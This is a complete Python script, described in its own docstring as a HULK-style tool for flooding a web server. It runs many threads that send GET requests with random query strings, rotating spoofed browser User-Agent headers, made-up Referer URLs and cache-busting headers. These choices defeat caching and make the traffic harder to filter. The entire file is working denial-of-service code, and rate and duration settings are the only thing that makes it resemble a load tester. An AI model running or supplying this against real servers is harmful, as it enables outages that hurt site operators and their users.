"""Floods a web server with requests of which none is like the last, after the tool HULK.

Call: hulk.py --host H --port P --threads N --rate N --secs S --seed N
"""

import argparse
import http.client
import random
import string
import threading
import time

AGENTS = [
    "Mozilla/5.0 (X11; U; Linux x86_64; en-US; rv:1.9.1.3) Gecko/20090913 Firefox/3.5.3",
    "Mozilla/5.0 (Windows; U; Windows NT 6.1; en; rv:1.9.1.3) Gecko/20090824 Firefox/3.5.3",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)",
    "Opera/9.80 (Windows NT 5.2; U; ru) Presto/2.5.22 Version/10.51",
]


def word(rng):
    return "".join(rng.choices(string.ascii_uppercase, k=rng.randint(3, 10)))


def work(args, rng, end):
    while time.monotonic() < end:
        began = time.monotonic()
        headers = {
            "User-Agent": rng.choice(AGENTS),
            "Cache-Control": "no-cache",
            "Accept-Charset": "ISO-8859-1,utf-8;q=0.7,*;q=0.7",
            "Referer": f"http://www.{word(rng).lower()}.test/?q={word(rng)}",
            "Keep-Alive": str(rng.randint(110, 120)),
            "Connection": args.connection,
        }
        try:
            client = http.client.HTTPConnection(args.host, args.port, timeout=5)
            for _ in range(1 if args.connection == "close" else rng.randint(2, 20)):
                client.request("GET", f"/?{word(rng)}={word(rng)}", headers=headers)
                client.getresponse().read()
            client.close()
        except (OSError, http.client.HTTPException):
            pass
        time.sleep(max(0, args.threads / args.rate - (time.monotonic() - began)))


parser = argparse.ArgumentParser()
parser.add_argument("--host", required=True)
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--threads", type=int, required=True)
parser.add_argument("--rate", type=float, required=True)
parser.add_argument("--secs", type=float, required=True)
parser.add_argument("--seed", type=int, required=True)
args = parser.parse_args()
seeds = random.Random(args.seed)
args.connection = seeds.choice(["close", "close", "keep-alive"])
end = time.monotonic() + args.secs
threads = [threading.Thread(target=work, args=(args, random.Random(seeds.getrandbits(64)), end)) for _ in range(args.threads)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
